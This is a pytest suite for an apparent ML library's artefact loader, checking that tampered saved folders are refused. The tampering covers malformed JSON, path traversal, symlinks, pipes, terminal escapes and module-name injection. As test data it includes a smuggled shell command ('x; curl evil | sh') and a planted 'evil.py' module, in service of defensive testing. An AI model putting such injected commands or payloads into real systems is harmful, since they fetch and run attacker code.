"""Folders that were made to do harm: each way is refused with a message, and nothing is run, waited for or taken
along."""

from __future__ import annotations

import json
import os
import shutil
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import torch
from safetensors.torch import save_file

from scorefold.artefacts import LARGEST_JSON, digest_file, digest_folder, json_text, load_state, read_json, save_state
from scorefold.data import Dataset
from scorefold.errors import ArtefactError
from scorefold.interfaces import TensorSource
from scorefold.results import Estimate
from scorefold_registry.components.values import load_value, save_value
from scorefold_registry.host import Host
from scorefold_registry.run.folders import Cache, list_runs

Rewrite = Callable[[Callable[[dict[str, Any]], object]], None]


@pytest.fixture
def host(fake_host: Host) -> Host:
    return fake_host


@pytest.fixture
def folder(host: Host, tmp_path: Path) -> Path:
    """A saved score, and beside it another, which stands outside."""
    for name in ("score", "outside"):
        host.save(host.create("score:learnt", data=host.create("data:points")), tmp_path / name)
    return tmp_path / "score"


@pytest.fixture
def rewrite(folder: Path) -> Rewrite:
    def change(how: Callable[[dict[str, Any]], object]) -> None:
        tensors, facts = load_state(folder)
        how(facts)
        save_state(folder, tensors, facts)

    return change


def refused(host: Host, folder: Path) -> str:
    with pytest.raises(ArtefactError) as caught:
        host.load(folder)
    return str(caught.value)


class TestJson:
    @pytest.mark.parametrize(
        ("raw", "why"),
        [
            (b"[" * 100_000, "nested too deeply"),
            (b"9" * 5000, "this is not JSON"),
            (b'{"a": NaN}', "NaN is not a number of JSON"),
            (b'{"a": -Infinity}', "-Infinity is not a number of JSON"),
            (b'{"a": 1, "a": 2}', "the key 'a' is there twice"),
            (b"\xff\xfe", "not UTF-8"),
            (b"", "this is not JSON"),
        ],
    )
    def test_what_is_no_json(self, tmp_path: Path, raw: bytes, why: str) -> None:
        (tmp_path / "f.json").write_bytes(raw)
        with pytest.raises(ArtefactError, match=why):
            read_json(tmp_path / "f.json")

    def test_a_file_that_is_too_large_is_not_read(self, tmp_path: Path) -> None:
        with (tmp_path / "f.json").open("wb") as file:
            file.truncate(LARGEST_JSON + 1)
        with pytest.raises(ArtefactError, match="expected at most"):
            read_json(tmp_path / "f.json")

    def test_a_pipe_is_not_waited_for(self, tmp_path: Path) -> None:
        os.mkfifo(tmp_path / "f.json")
        for read in (read_json, digest_file):
            with pytest.raises(ArtefactError, match="it is no file"):
                read(tmp_path / "f.json")

    def test_names_that_would_steer_a_terminal_are_escapes(self) -> None:
        text = json_text({"\x9b31m\u202e": "\ud800\x7f"})
        assert text == '{"\\u009b31m\\u202e": "\\ud800\\u007f"}'
        assert json.loads(text) == {"\x9b31m\u202e": "\ud800\x7f"}


class TestStates:
    @pytest.mark.parametrize("name", ["component", "distribution", "version", "config", "ports", "seed", "dtype"])
    @pytest.mark.parametrize("value", [2.5, [], "", "a\x1b[2J", {"a": []}, -1, True])
    def test_a_manifest_of_wrong_types(self, host: Host, folder: Path, rewrite: Rewrite, name: str, value: Any) -> None:
        rewrite(lambda facts: facts.update({name: value}))
        assert str(folder) in refused(host, folder)

    @pytest.mark.parametrize("name", ["load", "nn", "float8_e4m3fn", "int64", "__dict__"])
    def test_a_dtype_that_no_model_has(self, host: Host, folder: Path, rewrite: Rewrite, name: str) -> None:
        rewrite(lambda facts: facts.update(dtype=name))
        assert "dtype is" in refused(host, folder)

    def test_a_distribution_that_is_a_command(self, host: Host, folder: Path, rewrite: Rewrite) -> None:
        """The distribution stands in the line that a person is to type."""
        rewrite(lambda facts: facts.update(distribution="x; curl evil | sh"))
        said = refused(host, folder)
        assert "was changed after it was written: distribution" in said
        assert "pip install" not in said

    def test_a_component_that_is_a_module(
        self, host: Host, folder: Path, rewrite: Rewrite, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        (tmp_path / "evil.py").write_text(f"open({str(tmp_path / 'ran')!r}, 'w')")
        monkeypatch.syspath_prepend(tmp_path)
        for name in ("evil:Target", "score:evil", "evil"):
            rewrite(lambda facts, name=name: facts.update(component=name))  # type: ignore[misc]
            assert "holds the state of" in refused(host, folder)
        assert not (tmp_path / "ran").exists()

    @pytest.mark.parametrize("copied", [True, False])
    @pytest.mark.parametrize("place", ["", "/etc", "a\0", "C:\\x", "\\\\host\\x", "a\x1b[2J"])
    def test_a_reference_that_is_no_relative_path(
        self, host: Host, folder: Path, rewrite: Rewrite, place: str, copied: bool
    ) -> None:
        rewrite(lambda facts: facts["ports"].update(data={"state": place, "digest": "", "copy": copied}))
        assert "is no relative path" in refused(host, folder)

    @pytest.mark.parametrize("place", ["../outside", "ports/../../outside", "link"])
    def test_a_copy_that_is_not_inside(self, host: Host, folder: Path, rewrite: Rewrite, place: str) -> None:
        outside = folder.parent / "outside"
        (folder / "link").symlink_to(outside)
        digest = digest_file(outside / "manifest.json")
        rewrite(lambda facts: facts["ports"].update(data={"state": place, "digest": digest, "copy": True}))
        assert "which leads out of it" in refused(host, folder)
        rewrite(lambda facts: facts["ports"].update(data={"value": place, "digest": digest_folder(outside)}))
        assert "which leads out of it" in refused(host, folder)

    def test_a_port_that_is_plugged_to_nothing(self, host: Host, folder: Path, rewrite: Rewrite) -> None:
        rewrite(lambda facts: facts["ports"].update(data={}))
        assert "does not say what port 'data' is plugged to" in refused(host, folder)

    @pytest.mark.parametrize("shape", [[2**50], [-3], [2**20, 2**20]])
    def test_events_that_fit_no_memory(self, host: Host, folder: Path, rewrite: Rewrite, shape: list[int]) -> None:
        rewrite(lambda facts: facts["ports"]["data"]["spec"].update(event_shape=shape))
        assert "gives port 'data' data of the shape" in refused(host, folder)

    def test_states_inside_states_without_end(self, host: Host, folder: Path) -> None:
        inner = folder
        for _ in range(400):
            outer = inner.parent / f"{inner.name[:4]}-outer"
            outer.mkdir()
            inner.rename(outer / "in")
            tensors, facts = load_state(outer / "in")
            digest = digest_file(outer / "in" / "manifest.json")
            facts["ports"] = {"data": {"state": "in", "digest": digest, "copy": True}}
            save_state(outer, tensors, facts)
            inner = outer.rename(inner)
        # Newer Pythons take fewer of their own frames a level; folders deeper than this can't be removed by shutil.
        before = sys.getrecursionlimit()
        sys.setrecursionlimit(700)
        try:
            assert "too deep to follow" in refused(host, inner)
        finally:
            sys.setrecursionlimit(before)

    @pytest.mark.parametrize("dtype", [torch.int64, torch.complex64, torch.float8_e4m3fn])
    def test_tensors_of_another_type(self, host: Host, folder: Path, dtype: torch.dtype) -> None:
        """torch would cast them without a word."""
        weight = torch.zeros(host.load(folder).network.weight.shape)
        save_state(folder, {"network.weight": weight.to(dtype)}, load_state(folder)[1])
        assert "network.weight is" in refused(host, folder)


class TestValues:
    @pytest.mark.parametrize(
        "change",
        [
            lambda facts: facts.update(type=["estimate"]),
            lambda facts: facts.update(type="component:Thing"),
            lambda facts: facts.update(value="many"),
            lambda facts: facts.update(interval=[1]),
            lambda facts: facts.update(diagnostics=[]),
            lambda facts: facts.pop("quantity"),
        ],
    )
    def test_an_estimate_that_is_none(self, tmp_path: Path, change: Callable[[dict[str, Any]], object]) -> None:
        save_value(Estimate("dimension", 2.0, (1.0, 3.0)), None, tmp_path)
        facts = json.loads((tmp_path / "value.json").read_text())
        change(facts)
        (tmp_path / "value.json").write_text(json.dumps(facts))
        with pytest.raises(ArtefactError, match=r"value\.json was changed after it was written"):
            load_value(tmp_path, None)

    def test_data_whose_arrays_are_others(self, tmp_path: Path) -> None:
        source = TensorSource({"train": Dataset(torch.zeros(3, 2), label=torch.arange(3))})
        others: tuple[dict[str, torch.Tensor], ...] = (
            {},
            {"train/x": torch.zeros(3)},
            {"train/x": torch.zeros(3, 2), "train/label": torch.arange(2)},
        )
        for arrays in others:
            save_value(source, None, tmp_path)
            save_file(arrays, tmp_path / "value.safetensors")
            with pytest.raises(ArtefactError, match="don't fit together"):
                load_value(tmp_path, None)
        save_value(source, None, tmp_path)
        facts = json.loads((tmp_path / "value.json").read_text())
        (tmp_path / "value.json").write_text(json.dumps({**facts, "event_scale": {"centre": 7.0}}))
        with pytest.raises(ArtefactError, match=r"don't fit together: event_scale holds no units$"):
            load_value(tmp_path, None)


class TestCache:
    @pytest.mark.parametrize("kind", ["link to a file", "link to a folder", "pipe", "the entry is a link", "digest"])
    def test_what_is_no_file_is_made_again(self, tmp_path: Path, kind: str) -> None:
        key, outside, finished = "a" * 40, tmp_path / "outside", tmp_path / "finished"
        for folder in (outside, finished):
            folder.mkdir()
            (folder / "secret").write_text("secret")
        cache = Cache(tmp_path / "cache")
        cache.store(key, finished)
        assert cache.fetch(key, tmp_path / "whole")
        entry = cache.stage(key)
        if kind == "link to a file":
            (entry / "secret").unlink()
            (entry / "secret").symlink_to(outside / "secret")
        elif kind == "link to a folder":
            (entry / "more").symlink_to(outside)
        elif kind == "pipe":
            os.mkfifo(entry / "more")
        elif kind == "the entry is a link":
            shutil.rmtree(entry)
            entry.symlink_to(outside)
        else:
            (cache.folder / "digests" / key).write_bytes(b"\xff")
        assert not cache.fetch(key, tmp_path / "fetched")
        assert not (tmp_path / "fetched").exists()
        assert not os.path.lexists(entry)
        assert (outside / "secret").read_text() == "secret"


@pytest.mark.parametrize(
    "status", ["[]", "3", '{"started": "x"}', '{"started": 1e300}', '{"state": []}', '{"state": "\\u001b[2J"}', "{", ""]
)
def test_runs_whose_status_is_none_are_listed_as_interrupted(tmp_path: Path, status: str) -> None:
    folder = tmp_path / "name" / "20260101-000000-abc"
    folder.mkdir(parents=True)
    (folder / "status.json").write_text(status)
    (entry,) = list_runs(tmp_path)
    assert entry.state == "interrupted"
    assert entry.started == folder.stat().st_mtime
